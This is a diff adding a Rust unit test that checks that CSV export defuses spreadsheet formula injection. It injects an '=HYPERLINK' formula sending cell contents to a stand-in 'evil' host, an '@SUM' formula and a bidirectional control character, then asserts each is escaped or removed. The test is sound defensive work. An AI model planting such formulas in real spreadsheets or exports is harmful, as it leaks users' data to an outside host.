@@ -138,6 +138,23 @@ fn every_column_of_every_table_has_a_family_of_its_own() {
     }
 }
 
+/// The manifest of a foreign run has any text as a name.
+#[test]
+fn no_name_is_a_formula_of_a_spreadsheet() {
+    let Summary { title, mut rows, .. } = run();
+    rows[0].method = "=HYPERLINK(\"http://evil/\"&A1)".to_owned();
+    rows[0].network = "@SUM(1+1)".to_owned();
+    rows[0].variant = "a\u{202e}b".to_owned();
+    let text = Exported { title: &title, rows: &rows, study: None, is_complete: true }.text(Format::Csv);
+    let mut csv = csv::Reader::from_reader(text.as_bytes());
+    let lines: Vec<_> = csv.records().map(Result::unwrap).collect();
+    let begins = |first: char| lines.iter().flatten().filter(|cell| cell.starts_with(first)).count();
+    assert_eq!(begins('=') + begins('@'), 0);
+    assert!(lines.iter().flatten().any(|cell| cell == "'=HYPERLINK(\"http://evil/\"&A1)"));
+    assert!(text.contains("'@SUM(1+1)") && text.contains("a b") && !text.contains('\u{202e}'));
+    assert_eq!(["-0.5", "+1", "-", "=1"].map(|text| in_cell(text).into_owned()), ["-0.5", "+1", "'-", "'=1"]);
+}
+
 /// Readers of a file do not see the message on stderr.
 #[test]
 fn tables_of_an_interrupted_run_say_so() {
